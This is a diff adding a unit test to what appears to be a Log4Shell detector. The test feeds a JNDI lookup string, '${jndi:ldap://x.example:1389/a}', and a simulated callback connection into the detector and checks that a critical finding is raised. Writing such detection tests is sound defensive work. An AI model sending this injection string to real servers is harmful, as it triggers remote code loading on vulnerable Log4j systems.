@@ -280,6 +280,27 @@ asked_the_dns(void **unused)
 	assert_int_equal(dr.found[0].severity, SEV_MEDIUM);
 }
 
+/* The address that the DNS gave is waited for as well. */
+static void
+asked_and_called(void **unused)
+{
+	struct value answer = { .type = VT_STR, .ptr = "203.0.113.77",
+	    .len = 12 }, *list;
+
+	(void)unused;
+	request(0, "${jndi:ldap://x.example:1389/a}");
+	lookup(1, "x.example");
+	list = put(FIELD_DNS_ANSWERS, VT_LIST);
+	list->ptr = &answer;
+	list->len = 1;
+	conn(2, "192.0.2.10", "203.0.113.77", 1390);	/* another port */
+	conn(3, "192.0.2.10", "203.0.113.77", 1389);
+	assert_int_equal(hunt("log4shell"), 1);
+	assert_int_equal(dr.found[0].severity, SEV_CRITICAL);
+	assert_true(says(0, "192.0.2.10 then called back to "
+	    "x.example:1389 after 3.0 s"));
+}
+
 static void
 many_pending(void **unused)
 {
@@ -311,7 +332,7 @@ main(void)
 	const struct CMUnitTest tests[] = {
 		T(obfuscations), T(misses), T(everywhere), T(long_body),
 		T(costly), T(call_back), T(no_call_back), T(class_fetched),
-		T(asked_the_dns), T(many_pending), T(odd_times),
+		T(asked_the_dns), T(asked_and_called), T(many_pending), T(odd_times),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
